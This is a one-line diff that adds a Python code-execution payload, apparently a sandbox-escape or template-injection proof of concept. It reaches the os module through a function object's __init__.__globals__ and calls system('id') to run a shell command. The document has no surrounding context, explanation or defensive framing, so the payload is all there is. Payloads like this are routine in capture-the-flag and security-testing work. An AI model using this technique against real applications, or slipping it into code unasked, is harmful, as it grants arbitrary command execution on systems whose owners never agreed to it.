@@ -1,0 +1,1 @@
+f.__init__.__globals__["os"].system("id")
